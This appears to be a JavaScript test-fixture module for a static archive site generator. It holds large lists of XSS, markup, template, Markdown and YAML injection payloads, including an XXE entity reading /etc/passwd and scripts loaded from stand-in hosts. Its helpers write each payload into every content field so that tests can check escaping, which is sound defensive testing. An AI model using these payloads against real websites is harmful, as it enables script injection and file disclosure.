// Strings that run where text is taken for markup, script, style or template, and an archive that has
// each of them in every field of every kind of file.

import { mkdir, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';

// Each calls `canary`, asks for something elsewhere, or changes what the page is.
export const STRINGS = [
  // scripts
  '<script>canary(1)</script>',
  '<SCRIPT>canary(1)</SCRIPT >',
  '<script src=https://elsewhere.invalid/x.js></script>',
  '<script/src="data:text/javascript,canary(1)"></script>',
  '<script type=module>import("https://elsewhere.invalid/x.js")</script>',
  '<scr<script>ipt>canary(1)</scr</script>ipt>',
  '</script><script>canary(1)</script>',
  '</title><script>canary(1)</script>',
  '</style><script>canary(1)</script>',
  '</textarea><script>canary(1)</script>',
  '</template><script>canary(1)</script>',
  '</pre></code><script>canary(1)</script>',
  '</p></div></main></body></html><script>canary(1)</script>',
  '\u003cscript>canary(1)\u003c/script>',
  '＜script＞canary(1)＜/script＞',
  // handlers
  '<img src=x onerror=canary(1)>',
  '<img src=x onerror="canary(1)" alt="x">',
  '<img/src=x/onerror=canary(1)//',
  '<img src onerror=canary(1)',
  '<body onload=canary(1)>',
  '<html onmouseover=canary(1)>',
  '<p onclick=canary(1) autofocus tabindex=1 onfocus=canary(1)>x</p>',
  '<input autofocus onfocus=canary(1)>',
  '<details open ontoggle=canary(1)><summary>x</summary></details>',
  '<video><source onerror=canary(1)></video>',
  '<audio src=x onerror=canary(1)>',
  '<marquee onstart=canary(1)>x</marquee>',
  '<button popovertarget=x>x</button><b popover id=x onbeforetoggle=canary(1)>x</b>',
  // out of an attribute
  '" onmouseover="canary(1)" autofocus x="',
  "' onfocus='canary(1)' autofocus x='",
  '"><script>canary(1)</script>',
  "'><img src=x onerror=canary(1)>",
  '`><img src=x onerror=canary(1)>',
  '` onmouseover=canary(1) x=`',
  'x onmouseover=canary(1) autofocus',
  'x/onfocus=canary(1)/autofocus',
  '=canary(1)',
  '"/><svg/onload=canary(1)>',
  '&quot;&gt;&lt;script&gt;canary(1)&lt;/script&gt;',
  '&#34;&#62;&#60;script&#62;canary(1)&#60;/script&#62;',
  '&amp;lt;script&amp;gt;canary(1)&amp;lt;/script&amp;gt;',
  '&lt&#x3Cscript&gt canary(1)',
  // addresses
  'javascript:canary(1)',
  'JaVaScRiPt:canary(1)',
  'javascript&colon;canary(1)',
  '&#106;avascript&#58;canary(1)',
  'javascript%3Acanary(1)',
  '<a href="javascript:canary(1)" autofocus>x</a>',
  '<a href=" &#14; java&Tab;script&colon;canary(1)">x</a>',
  'data:text/html,<script>canary(1)</script>',
  'vbscript:canary(1)',
  '//elsewhere.invalid/x',
  '<base href=https://elsewhere.invalid/>',
  '<link rel=stylesheet href=https://elsewhere.invalid/x.css>',
  '<link rel=preconnect href=https://elsewhere.invalid>',
  '<meta http-equiv=refresh content="0;url=https://elsewhere.invalid/">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  // frames, forms, objects
  '<iframe src="javascript:canary(1)"></iframe>',
  '<iframe srcdoc="<script>parent.canary(1)</script>"></iframe>',
  '<form action=https://elsewhere.invalid/><button formaction="javascript:canary(1)">x</button></form>',
  '<object data="javascript:canary(1)"></object>',
  '<embed src=https://elsewhere.invalid/x.swf>',
  '<portal src=https://elsewhere.invalid/></portal>',
  // other languages
  '<svg onload=canary(1)></svg>',
  '<svg><script>canary(1)</script></svg>',
  '<svg><animate onbegin=canary(1) attributeName=x dur=1s></svg>',
  '<svg><foreignObject><img src=x onerror=canary(1)></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x/>#x"/></svg>',
  '<math><mi xlink:href="javascript:canary(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=canary(1)>',
  '<noscript><p title="</noscript><img src=x onerror=canary(1)>">',
  '<template shadowrootmode=open><script>canary(1)</script></template>',
  '<script xmlns="http://www.w3.org/1999/xhtml">canary(1)</script>',
  // styles
  '<style>@import "https://elsewhere.invalid/x.css";</style>',
  '<style>*{background:url(https://elsewhere.invalid/x.png)}</style>',
  '<p style="background:url(https://elsewhere.invalid/x.png)">x</p>',
  '</style>}*{background:url(https://elsewhere.invalid/x.png)}',
  // comments, sections, instructions
  '<!--',
  '<!-- x --!><script>canary(1)</script>',
  '--><script>canary(1)</script><!--',
  '<!--><script>canary(1)</script>-->',
  '<![CDATA[<script>canary(1)</script>]]>',
  ']]><script>canary(1)</script>',
  '<?xml version="1.0"?><script>canary(1)</script>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '<![if gte IE 4]><script>canary(1)</script><![endif]>',
  '<plaintext>',
  '<xmp><script>canary(1)</script>',
  '<textarea>',
  '<title>',
  // templates
  '{{ 7 * 7 }}',
  '{{ site.base_url }}{{ canary(1) }}',
  '{% raw %}{{ t.skip }}{% endraw %}',
  '{% include "base.html" %}',
  '{# x #}{%- set x = 1 -%}',
  '${canary(1)}',
  '#{canary(1)}',
  '<% canary(1) %>',
  '{{constructor.constructor("canary(1)")()}}',
  // characters
  'a\u2028<script>canary(1)</script>\u2029b',
  '\u202e<script>canary(1)</script>',
  '\ufeff<script>canary(1)</script>',
  '<scr\u200bipt>canary(1)</scr\u200bipt>',
  '<\u0131mg src=x onerror=canary(1)>',
  '\u{1f4f0}<img src=x onerror=canary(1)>\u{e0041}',
  // Markdown and YAML
  '# x {#x" onclick="canary(1)}',
  '## x {onclick=canary(1)}',
  '**<b onclick=canary(1)>x</b>**',
  '`<script>canary(1)</script>`',
  '[[gap: <img src=x onerror=canary(1)>]]',
  '[^1]: <img src=x onerror=canary(1)>',
  '| <img src=x onerror=canary(1)> |',
  '!!js/function canary(1)',
  '*anchor &anchor !tag',
  '- { a: b }',
  '--- ---',
  '...',
  '%YAML 1.2',
  '? x : y',
];

/** Links in Markdown that lead where no link may: the archive does not build. */
export const REFUSED = [
  '<javascript:canary(1)>',
  '[x](javascript:canary(1))',
  '[x](JAVASCRIPT:canary(1))',
  '[x](<javascript:canary(1)>)',
  '[x](javascript&colon;canary(1))',
  '[x](javascript&#58;canary(1))',
  '[x](javascript&#x3a;canary(1))',
  '[x](&#106;avascript:canary(1))',
  '[x](<java&Tab;script:canary(1)> "x")',
  '[x](<java&NewLine;script:canary(1)>)',
  '[x](<&#1;javascript:canary(1)>)',
  '[x](<\u0001javascript:canary(1)>)',
  '[x](<\u00a0javascript:canary(1)>)',
  '[x](<\u200bjavascript:canary(1)>)',
  '[x](java\\script:canary(1))',
  '[x](vbscript:canary(1))',
  '[x](data:text/html,<script>canary(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=)',
  '[x](blob:https://elsewhere.invalid/x)',
  '[x](file:///etc/passwd)',
  '[x](view-source:https://elsewhere.invalid/)',
  '[x](//elsewhere.invalid/)',
  '[x](/\\\\elsewhere.invalid/)',
  '[x](<\\\\\\\\elsewhere.invalid/>)',
  '[x](</&Tab;/elsewhere.invalid/>)',
  '[x](https:elsewhere.invalid)',
  '[x][y]\n\n[y]: javascript:canary(1)',
  '![x](https://elsewhere.invalid/x.png)',
  '![x](//elsewhere.invalid/x.png)',
  '![x](javascript:canary(1))',
  '![x](data:image/svg+xml,<svg/onload=canary(1)>)',
  '![x](<x" onerror="canary(1)>)',
  '[![x](https://elsewhere.invalid/x.png)](about/)',
  '[[<script>canary(1)</script>]]',
  '[[javascript:canary(1)]]',
  '[[javascript:canary(1)|x]]',
];

/** Markdown that is a link and may be one. */
export const ALLOWED = [
  '<https://example.org/?"onclick=canary(1)>',
  "<https://example.org/?'onclick=canary(1)>",
  '[x](https://example.org/%22onclick=%22canary(1))',
  '[x](<https://example.org/"onclick="canary(1)>)',
  '[x](about/ "\\"onclick=canary(1) x=")',
  "[x](about/ 'x\" onclick=\"canary(1)')",
  '[x](<?x=javascript:canary(1)>)',
  '[x](<#" onclick="canary(1)>)',
  '[x](<./javascript:canary(1)>)',
  '[[people/i0|<img src=x onerror=canary(1)>]]',
  '[<img src=x onerror=canary(1)>](about/)',
  '![<img src=x onerror=canary(1)>]()',
  '![" onerror="canary(1)]()',
  '<editor@example.org>',
];

/** What every string stands between, so that it is found again: no two fields have the same marks. */
export const marked = (field, at, string) => `〖${field}${at}·${string}·${field}${at}〗`;

/** Every character that Markdown could read, escaped: its plain text is the string. */
const escaped = (string) => string.replace(/[!-/:-@[-`{-~]/g, '\\$&');

/** The folders in which a string stands as a subject: people have a field more, and of the others each has every other string. */
const kindsOf = (at) => ['people', ...(at % 2 === 0 ? ['topics', 'places'] : ['organizations', 'systems'])];

/** What a note on something says, each in words of its own: `article-title`. */
const noteFields = (on) => ['title', 'reading', 'note'].map((field) => `${on}-${field}`);

/** The pages of the string with a number, with the fields that are to be read on each. */
export function pagesOf(at) {
  const issue = `issues/i${at}/`;
  const subject = (kind) => [`${kind}label`, 'alias', 'unmentioned', 'description', 'idkey', 'idvalue', 'subjectkey', 'subjectvalue', 'body', 'title'];
  return [
    [issue, [...noteFields('issue'), 'paper', 'date_note', 'edition', 'lunar', 'weather', 'serial', 'publisher', 'rights', 'label', 'issuekey', 'issuevalue', 'issuebody', 'title', 'kicker', 'deck', 'column']],
    [`${issue}a1/`, [...noteFields('page'), 'line', 'title', 'label']],
    [
      `${issue}a1-01/`,
      [...noteFields('article'), 'title', 'kicker', 'deck', 'column', 'from', 'mark', 'articlerights', 'articlekey', 'articlevalue', ...kindsOf(at).map((kind) => `${kind}label`),
       'text', 'heading', 'item', 'cell', 'quote', 'strong', 'link', 'wiki', 'caption', 'gap', 'foot', 'code', 'fence'],
    ],
    ...kindsOf(at).map((kind) => [`${kind}/i${at}/`, [...noteFields(kind), ...subject(kind), ...(kind === 'people' ? ['role'] : [])]]),
    [`i${at}/`, ['freetitle', 'freebody']],
  ];
}

/** Lists that show all strings, on several pages, and the fields of the string with a number that are to be read on one of them. */
export const LISTS = [
  [/^(issues|years\/\d+(\/\d+)*)\/$/, () => ['title']],
  ...['topics', 'people', 'organizations', 'places', 'systems'].map((kind) => [
    new RegExp(`^${kind}/(_\\d+/)?$`),
    (at) => (kindsOf(at).includes(kind) ? [`${kind}label`] : []),
  ]),
  [/^writers\/(\d+\/)?$/, () => ['reporter', 'correspondent', 'title']],
  [/^notes\/(\d+\/)?$/, (at) => ['article', 'page', 'issue', ...kindsOf(at)].flatMap((on) => [`${on}-title`, `${on}-reading`])],
];

/** An archive whose `archive.toml` has all strings in every field. */
export async function writeInjectedToml(root, { strings = STRINGS, minify = true } = {}) {
  await writeInjections(root, { strings: strings.slice(0, 1), minify });
  const all = strings.join(' ');
  await write(root, 'archive.toml', [
    ...['title', 'description', 'rights', 'paper'].map((key) => `${key} = ${toml(marked(key, '', all))}`),
    'base_url = "https://annals.example/"',
    outputs(minify),
    '[[navigation]]',
    `label = ${toml(marked('navigation', '', all))}`,
    'url = "issues/"',
  ]);
}

/** An archive that has each string in every field of a content file of each kind. */
export async function writeInjections(root, { strings = STRINGS, minify = true } = {}) {
  await rm(root, { recursive: true, force: true });
  await write(root, 'archive.toml', ['title = "档案"', 'base_url = "https://annals.example/"', outputs(minify)]);
  await write(root, 'content/pages/about.md', ['---', 'title: 关于', '---', '', '说明。']);
  for (const [at, string] of strings.entries()) {
    const y = (field) => JSON.stringify(marked(field, at, string));
    const m = (field) => escaped(marked(field, at, string));
    const folder = `content/issues/i${at}`;
    /** A file of notes, with one on the words of a field. */
    const notes = (file, on, quoted) =>
      write(root, file, [
        '---',
        `editor: ${y(`${on}-editor`)}`,
        'date: 2001-01-01',
        'lang: en',
        '---',
        '',
        `## doubt·open ${marked(`${on}-title`, at, string)} {#n1}`,
        '',
        `> ${m(quoted)}`,
        '',
        `-> ${marked(`${on}-reading`, at, string)}`,
        '',
        m(`${on}-note`),
        '',
        `甲${string}乙`,
      ]);
    await notes(`${folder}/_index.notes.md`, 'issue', 'issuebody');
    await notes(`${folder}/a1.notes.md`, 'page', 'line');
    await notes(`${folder}/a1-01.notes.md`, 'article', 'text');
    await write(root, `${folder}/_index.md`, [
      '---',
      `paper: ${y('paper')}`,
      `date: ${new Date(Date.UTC(2001, 0, 1 + at)).toISOString().slice(0, 10)}`,
      'date_basis: inferred',
      ...['date_note', 'edition', 'lunar', 'weather', 'serial', 'publisher', 'rights'].map((key) => `${key}: ${y(key)}`),
      `pages: { a1: { label: ${y('label')} } }`,
      `extra: { ${y('issuekey')}: ${y('issuevalue')} }`,
      '---',
      '',
      m('issuebody'),
    ]);
    await write(root, `${folder}/a1.txt`, [marked('line', at, string), marked('title', at, string), string]);
    await write(root, `${folder}/a1-01.md`, [
      '---',
      ...['title', 'kicker', 'deck', 'column', 'signature'].map((key) => `${key}: ${y(key)}`),
      `byline: { agency: ${y('agency')}, dateline: ${y('dateline')}, reporters: [${y('reporter')}], correspondents: [${y('correspondent')}], author: ${y('author')} }`,
      `continues_from: { mark: ${y('from')}, page: ${y('page')} }`,
      `continues_to: ${y('mark')}`,
      `rights: ${y('articlerights')}`,
      'source: [a1.txt#2]',
      `changes: [{ line: 2, from: ${JSON.stringify(marked('title', at, string))}, to: ${y('to')}, why: ${y('why')} }]`,
      ...kindsOf(at).map((kind) => `${kind}: [i${at}]`),
      `extra: { ${y('articlekey')}: ${y('articlevalue')} }`,
      '---',
      '',
      `${m('text')}。提到${kindsOf(at).map((kind) => m(`${kind}label`)).join('、')}[^1]`,
      '',
      `## ${m('heading')}`,
      '',
      `- ${m('item')}`,
      '',
      `| ${m('cell')} | 乙 |\n|-|-|\n| 甲 | 乙 |`,
      '',
      `> ${m('quote')}`,
      '',
      `**${m('strong')}** [${m('link')}](https://example.org/ "${m('linktitle')}") [[people/i${at}|${m('wiki')}]] [[people/i${at}]]`,
      '',
      `![${m('caption')}]()`,
      '',
      `[[gap: ${gap(at, string)}]]`,
      '',
      `\`\`\`${string.replace(/[`\s]/g, '_')}\n${marked('code', at, string)}\n\`\`\``,
      '',
      `~~~${string}\n${marked('fence', at, string)}\n~~~`,
      '',
      `[^1]: ${m('foot')}`,
    ]);
    for (const kind of kindsOf(at)) {
      await write(root, `content/${kind}/i${at}.md`, [
        '---',
        `label: ${y(`${kind}label`)}`,
        `aliases: [${y('alias')}, { text: ${y('unmentioned')}, mention: false }]`,
        `description: ${y('description')}`,
        ...(kind === 'people' ? [`role: ${y('role')}`] : []),
        `identifiers: { ${y('idkey')}: ${y('idvalue')} }`,
        `extra: { ${y('subjectkey')}: ${y('subjectvalue')} }`,
        '---',
        '',
        m('body'),
      ]);
      await notes(`content/${kind}/i${at}.notes.md`, kind, 'body');
    }
    await writeRaw(root, `i${at}`, string, { title: y('freetitle'), first: m('freebody') });
  }
}

/** A page that has a string as it is, in Markdown's own hands, wherever a block can stand. */
export async function writeRaw(root, name, string, { title = '原样', first = '' } = {}) {
  const alone = ['', string, ''];
  const body = [first, '', `甲${string}乙`, ...alone, `- ${string}`, ...alone, `> ${string}`, '', `## ${string}`, '', `| ${string} |`, '|-|', `| ${string} |`];
  await write(root, `content/pages/${name}.md`, ['---', `title: ${title}`, '---', '', ...body]);
}

/** The reason of a gap ends at the brackets. */
export const gap = (at, string) => marked('gap', at, string).replace(/[[\]|]/g, '、');

const outputs = (minify) => `outputs = ["feeds", "sitemap", "annotations"${minify ? ', "minify"' : ''}]`;

const toml = (text) => JSON.stringify(text).replace(/[\u007f\u2028\u2029]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);

async function write(root, name, lines) {
  const file = path.join(root, name);
  await mkdir(path.dirname(file), { recursive: true });
  await writeFile(file, lines.join('\n') + '\n');
}
